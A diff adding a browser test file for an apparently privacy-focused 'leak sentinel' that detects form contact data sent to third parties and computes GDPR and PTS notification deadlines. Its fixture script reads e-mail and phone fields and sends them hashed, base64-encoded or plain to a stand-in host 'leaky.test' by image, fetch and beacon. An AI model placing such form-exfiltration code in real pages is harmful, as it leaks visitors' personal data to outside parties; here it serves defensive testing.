@@ -1,0 +1,121 @@
+import { expect } from '@esm-bundle/chai';
+import { sendKeys } from '@web/test-runner-commands';
+import { clearDocumentCookies, resetTrackerHits, trackerHits } from '../helpers/browser.js';
+import { loadPage, removePages, type Frame } from '../helpers/page.js';
+import { siteConfig } from '../fixtures/config.js';
+import type { Incident, Sentinel } from '../../src/sentinel/index.js';
+
+/**
+ * A vendor script with "automatic advanced matching": on submit it hashes the
+ * e-mail the way Meta's pixel does and sends it to an undeclared host.
+ */
+const LEAKY_VENDOR = `<script>
+  window.leak = async (how) => {
+    const email = document.getElementById('email').value.trim().toLowerCase();
+    const bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(email));
+    const hash = Array.from(new Uint8Array(bytes), (b) => b.toString(16).padStart(2, '0')).join('');
+    const base = 'http://leaky.test:' + new URL(document.baseURI).port + '/tracker/';
+    if (how === 'image') return new Promise((resolve) => { const image = new Image(); image.onload = image.onerror = resolve; image.src = base + 'tr.gif?ev=Lead&em=' + hash; });
+    if (how === 'fetch') return fetch(base + 'collect', { method: 'POST', body: JSON.stringify({ user: btoa(email) }), mode: 'no-cors' }).catch(() => 'blocked');
+    if (how === 'beacon') return navigator.sendBeacon(base + 'beacon', 'phone=' + encodeURIComponent(document.getElementById('phone').value));
+  };
+</script>`;
+const FORM = '<form><input id="email" name="email" type="email"><input id="phone" name="phone" type="tel"></form>';
+
+async function typeInto(win: Frame, id: string, text: string): Promise<void> {
+  const frame = [...document.querySelectorAll('iframe')].find((element) => element.contentWindow === win)!;
+  frame.focus();
+  win.document.getElementById(id)!.focus();
+  await sendKeys({ type: text });
+}
+
+/** The running sentinel of the page (the same module instance the head script loaded). */
+async function sentinelOf(win: Frame): Promise<Sentinel> {
+  const module = (await (win as unknown as { eval(code: string): Promise<typeof import('../../src/sentinel/index.js')> }).eval(
+    "import('/dist/samtycke-sentinel.js')",
+  ));
+  return module.watchForLeaks();
+}
+
+function nextLeak(win: Frame): Promise<Incident> {
+  return new Promise((resolve) => win.document.addEventListener('samtycke:leak', (event) => resolve((event as CustomEvent<Incident>).detail), { once: true }));
+}
+
+describe('leak sentinel (R39, R42, R43)', () => {
+  beforeEach(async () => {
+    clearDocumentCookies();
+    await resetTrackerHits();
+  });
+  afterEach(() => removePages());
+
+  it('raises an incident within a second when a hashed e-mail leaves for a third party', async () => {
+    const win = await loadPage({ config: siteConfig({ controller: 'Exempel AB' }), head: LEAKY_VENDOR, body: FORM });
+    await typeInto(win, 'email', 'Leak.Test@Example.se ');
+    const sentinel = await sentinelOf(win);
+    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
+
+    const incidentRaised = nextLeak(win);
+    const sentAt = Date.now();
+    await (win.leak as (how: string) => Promise<void>)('image');
+    const incident = await incidentRaised;
+    expect(Date.now() - sentAt).to.be.lessThan(1000);
+    expect(incident.recipients).to.deep.equal(['leaky.test']);
+    expect(incident.evidence).to.include({ field: 'email', encoding: 'normalised+sha256', host: 'leaky.test', kind: 'image' });
+    expect(incident.evidence.url).not.to.contain('?');
+    expect(incident.unintelligible).to.equal(false);
+    expect(incident.unintelligibleReason).to.match(/hash/);
+    expect(incident.contactPoint).to.equal('Exempel AB');
+    expect(Date.parse(incident.deadlines.gdpr) - Date.parse(incident.detectedAt)).to.equal(72 * 3600 * 1000);
+    expect(incident.deadlines.ptsInitial).to.equal(undefined);
+    expect(sentinel.incidents()).to.have.length(1);
+    // Report mode: the request went out, and the incident says so.
+    expect((await trackerHits('leaky.test')).length, JSON.stringify(await trackerHits())).to.equal(1);
+    expect(incident.measures.taken[0]).to.match(/not blocked/);
+  });
+
+  it('recognises base64 in a fetch body and a phone number in a beacon', async () => {
+    const win = await loadPage({ config: siteConfig(), head: LEAKY_VENDOR, body: FORM });
+    await typeInto(win, 'email', 'anna.svensson@example.se');
+    await typeInto(win, 'phone', '070-123 45 67');
+    const sentinel = await sentinelOf(win);
+    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
+    await sentinel.track(win.document.getElementById('phone') as HTMLInputElement);
+
+    let raised = nextLeak(win);
+    await (win.leak as (how: string) => Promise<void>)('fetch');
+    expect((await raised).evidence).to.include({ field: 'email', kind: 'fetch' });
+    expect((await raised).evidence.encoding).to.match(/base64/);
+
+    raised = nextLeak(win);
+    await (win.leak as (how: string) => Promise<void>)('beacon');
+    expect((await raised).evidence).to.include({ field: 'phone', kind: 'beacon' });
+  });
+
+  it('in block mode stops the request and prepares the PTS deadlines for a telecom operator', async () => {
+    const config = { ...siteConfig(), sentinel: { mode: 'block', operatorType: 'ecs' } };
+    const win = await loadPage({ config, head: LEAKY_VENDOR, body: FORM });
+    await typeInto(win, 'email', 'Leak.Test@Example.se');
+    const sentinel = await sentinelOf(win);
+    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
+
+    const raised = nextLeak(win);
+    // The blocked image never loads, so its promise never settles: do not wait for it.
+    void (win.leak as (how: string) => Promise<void>)('image');
+    const incident = await raised;
+    expect(incident.measures.taken[0]).to.match(/blocked/);
+    expect(Date.parse(incident.deadlines.ptsInitial!) - Date.parse(incident.detectedAt)).to.equal(24 * 3600 * 1000);
+    expect(await (win.leak as (how: string) => Promise<string>)('fetch')).to.equal('blocked');
+    expect(await trackerHits('leaky.test')).to.have.length(0);
+  });
+
+  it('ignores first-party requests and fields without contact data', async () => {
+    const win = await loadPage({ config: siteConfig(), body: '<input id="search" name="q" type="search">' + FORM });
+    await typeInto(win, 'search', 'espresso beans');
+    const sentinel = await sentinelOf(win);
+    await typeInto(win, 'email', 'someone@example.se');
+    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
+    await win.fetch(`/tracker/same-site?em=${encodeURIComponent('someone@example.se')}`);
+    await win.fetch(`http://leaky.test:${location.port}/tracker/search?q=espresso%20beans`);
+    expect(sentinel.incidents(), JSON.stringify(sentinel.incidents()[0]?.evidence)).to.have.length(0);
+  });
+});
